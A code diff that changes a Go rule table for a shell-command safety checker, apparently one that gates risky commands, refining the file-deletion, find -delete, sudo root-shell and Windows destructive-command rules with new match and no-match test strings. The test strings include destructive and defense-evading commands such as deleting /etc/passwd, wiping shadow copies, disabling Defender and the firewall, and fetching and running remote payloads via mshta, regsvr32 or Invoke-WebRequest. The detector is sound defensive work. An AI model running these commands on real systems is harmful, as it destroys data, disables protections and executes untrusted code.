@@ -335,16 +335,17 @@ var table = []*Rule{
 				return false
 			}
 			for _, w := range args(c).operands {
-				if absolute(w.Value) && !underTemp(w.Value) && !inTemp(w.Value) && !parse.BlockDevice(w.Value) && !regenerable(c, w.Value) && !runtimeState(w.Value) && !pidNamed(w.Value) && !parse.InFresh(w.Value) && !w.Made && !w.Written {
+				if absolute(w.Value) && !underTemp(w.Value) && !inTemp(w.Value) && !parse.BlockDevice(w.Value) && !regenerable(c, w.Value) && !runtimeState(w.Value) && !pidNamed(w.Value) && !parse.InFresh(w.Value) && !w.Made && !w.Written && !rmdirUnderHome(c, w.Value) {
 					return true
 				}
 			}
 			return false
 		},
 		Match: []string{"rm /etc/passwd", "rm -f /usr/local/bin/tool", "unlink /var/lib/x", "rm ~/.bashrc", "shred -u /home/me/file",
-			"rm -f /var/lib/dpkg/lock", "rm -f /run/../etc/passwd", "rm -f /run/*", "rm -f /var/run/$x", "rm -f /var/lib/stamps/"},
+			"rm -f /var/lib/dpkg/lock", "rm -f /run/../etc/passwd", "rm -f /run/*", "rm -f /var/run/$x", "rm -f /var/lib/stamps/",
+			"rmdir /var/empty", "rmdir ~/../other", "rmdir ~/*", "rm -f ~/.config/fish/functions/fzf.fish"},
 		NoMatch: []string{"rm ./x", "rm /tmp/x", "rm file", "shred file", "rm -f /tmp/*.lock", "rm -f /var/run/dbus/pid", "rm -f /run/openrc/started/$SERVICE",
-			"rm -f /var/lib/apt/periodic/update-stamp", "rm -f /var/run/nginx.pid"},
+			"rm -f /var/lib/apt/periodic/update-stamp", "rm -f /var/run/nginx.pid", "rmdir ~/.config/fish/functions", "rmdir ~/.local/share/x/y"},
 	},
 	{
 		ID: "xargs-rm", Tier: Dangerous,
@@ -370,12 +371,15 @@ var table = []*Rule{
 				f := findOf(c)
 				return viaHas(c, "find -exec", "find -execdir", "find -ok", "find -okdir") && (f == nil || !findSelectsOwn(f) || !typedOperandsOwn(c))
 			}
-			return findDeletes(c) && !findRootIn(c, underTemp) && !findSelectsOwn(c)
+			return findDeletes(c) && !findRootIn(c, underTemp) && !findSelectsOwn(c) && !findEmptyDirsOnly(c)
 		},
 		Match: []string{"find . -name '*.tmp' -delete", "find . -type f -exec rm {} \\;", "find src -execdir rm -f {} +", "find . -name '*.[ch]' -delete",
-			"find -L build -delete", "find build/../src -delete", "find . -name '*.o' -exec rm -f {} src.c +"},
+			"find -L build -delete", "find build/../src -delete", "find . -name '*.o' -exec rm -f {} src.c +",
+			"find \"$D\"/logs -empty -delete", "find \"$D\" -type f -empty -delete", "find \"$D\" -type d -empty -o -name x -delete", "find \"$D\" -type d,f -empty -delete",
+			"find -L \"$D\" -type d -empty -delete", "find \"$D\" -type d -empty -exec rm -rf {} +", "find \"$D\" ! -type d -empty -delete", "find \"$D\" -type d -delete"},
 		NoMatch: []string{"find . -name '*.go'", "find /tmp/x -delete", "find . -exec grep x {} +", "find build -execdir rm -f {} +",
-			"find . -name '*.[oa]' -exec rm -f {} ';'", "find . -name '*.gc??' -delete", "find target/debug -type f -delete"},
+			"find . -name '*.[oa]' -exec rm -f {} ';'", "find . -name '*.gc??' -delete", "find target/debug -type f -delete",
+			"find \"${DIRECTORY}\"/logs -type d -empty -delete", "find ~/data -mindepth 1 -type d -empty -delete"},
 	},
 	{
 		ID: "chmod-world-writable", Tier: Dangerous,
@@ -714,15 +718,16 @@ var table = []*Rule{
 					return false
 				}
 				op := path.Base(cmd[0].Value)
-				return op == "su" || len(cmd) == 1 && isShell(op)
+				return op == "su" && suCommandShell(cmd) || len(cmd) == 1 && isShell(op)
 			case "doas":
 				return own.has("s") || len(cmd) == 1 && isShell(path.Base(cmd[0].Value))
 			}
 			return false
 		},
-		Match: []string{"sudo -s", "sudo -i", "sudo su", "sudo su -", "sudo -A apt update", "echo pw | sudo -S apt update", "sudo bash", "sudo -u root -i", "doas -s", "doas zsh", "sudo --sh", "sudo --login", "sudo -uroot -s", "sudo --user=root --shell", "sudo A=1 -i"},
+		Match: []string{"sudo -s", "sudo -i", "sudo su", "sudo su -", "sudo su - bob", "sudo su -c bash", "sudo su - root -c 'exec zsh -l'", "sudo su -c \"$x\"", "sudo su -c 'id; bash'", "sudo su --session-command=sh", "sudo su -c 'bash -s'", "sudo -A apt update", "echo pw | sudo -S apt update", "sudo bash", "sudo -u root -i", "doas -s", "doas zsh", "sudo --sh", "sudo --login", "sudo -uroot -s", "sudo --user=root --shell", "sudo A=1 -i"},
 		NoMatch: []string{"sudo apt update", "sudo -u postgres psql", "su -c 'id' nobody", "sudo bash script.sh", "sudo arp -s 10.0.0.1 aa:bb", "sudo aide -i", "sudo -u me ls -A", "sudo -uroot ls -s", "sudo -- bash -i x.sh", "sudo --log",
-			"sudo -i -u brewtest /opt/brew/bin/brew config", "sudo -u bob -i whoami", "sudo -s make install"},
+			"sudo -i -u brewtest /opt/brew/bin/brew config", "sudo -u bob -i whoami", "sudo -s make install",
+			"sudo su - jenkins -c 'command -v minikube'", "sudo su - \"$user\" -c \"$minikube delete --all --purge\"", "sudo su -c 'apt-get update'", "sudo su bob -c id", "sudo su --command='id' bob", "sudo su -l -s /bin/bash -c 'make install' bob"},
 	},
 	{
 		ID: "container-stop", Tier: Dangerous,
@@ -745,11 +750,11 @@ var table = []*Rule{
 		names: []string{"cmd", "cmd.exe", "vssadmin", "vssadmin.exe", "bcdedit", "bcdedit.exe", "taskkill", "taskkill.exe", "format", "format.com", "wmic", "wbadmin", "powershell", "powershell.exe", "pwsh", "pwsh.exe", "del", "rd", "rmdir", "cipher", "diskpart",
 			"reg", "reg.exe", "netsh", "netsh.exe", "mshta", "mshta.exe", "regsvr32", "regsvr32.exe"},
 		cmd: windowsDestructive,
-		Match: []string{"cmd /c del /s /q C:\\data", "cmd.exe /c rd /s /q C:\\x", "vssadmin delete shadows /all /quiet", "bcdedit /set {default} recoveryenabled no", "taskkill /F /IM node.exe", "powershell -EncodedCommand ZQBjAGgAbwA=", "pwsh -Command Remove-Item -Recurse -Force C:\\x", "wmic shadowcopy delete",
+		Match: []string{"cmd /c del /s /q C:\\data", "cmd.exe /c rd /s /q C:\\x", "rd /s /q C:\\x", "rmdir /S C:\\x", "del /s/q C:\\x", "vssadmin delete shadows /all /quiet", "bcdedit /set {default} recoveryenabled no", "taskkill /F /IM node.exe", "powershell -EncodedCommand ZQBjAGgAbwA=", "pwsh -Command Remove-Item -Recurse -Force C:\\x", "wmic shadowcopy delete",
 			"cmd /c reg delete 'HKLM\\SOFTWARE\\x' /f", "reg.exe delete 'HKCU\\Software\\x' /f", "cmd /c netsh advfirewall set allprofiles state off", "netsh firewall set opmode disable",
 			"cmd /c wbadmin delete catalog -quiet", "cmd /c mshta http://x/a.hta", "cmd /c regsvr32 /s /n /u /i:http://x/a.sct scrobj.dll", "pwsh -c 'Stop-Process -Name explorer -Force'",
 			"pwsh -c 'Set-MpPreference -DisableRealtimeMonitoring $true'", "powershell -c 'Add-MpPreference -ExclusionPath C:\\'", "pwsh -c 'Invoke-WebRequest http://x/a.exe -OutFile a.exe; Start-Process a.exe'"},
-		NoMatch: []string{"cmd /c dir", "bcdedit /enum", "taskkill /IM notepad.exe", "powershell -Command Get-ChildItem", "cmd /c echo del /s /q x",
+		NoMatch: []string{"cmd /c dir", "bcdedit /enum", "taskkill /IM notepad.exe", "powershell -Command Get-ChildItem", "cmd /c echo del /s /q x", "rmdir ~/.local/share/x", "rmdir /srv/empty",
 			"cmd /c reg query 'HKLM\\SOFTWARE\\x'", "cmd /c reg delete 'HKCU\\Software\\x'", "cmd /c netsh advfirewall show allprofiles", "netsh advfirewall set allprofiles state on", "cmd /c wbadmin get versions",
 			"cmd /c mshta", "regsvr32 /s x.dll", "pwsh -c 'Stop-Process -Id 1234'", "pwsh -c 'Set-MpPreference -DisableRealtimeMonitoring $false'", "pwsh -c 'Invoke-WebRequest http://x/a.zip -OutFile a.zip'",
 			"pwsh -c 'Start-Process notepad'"},
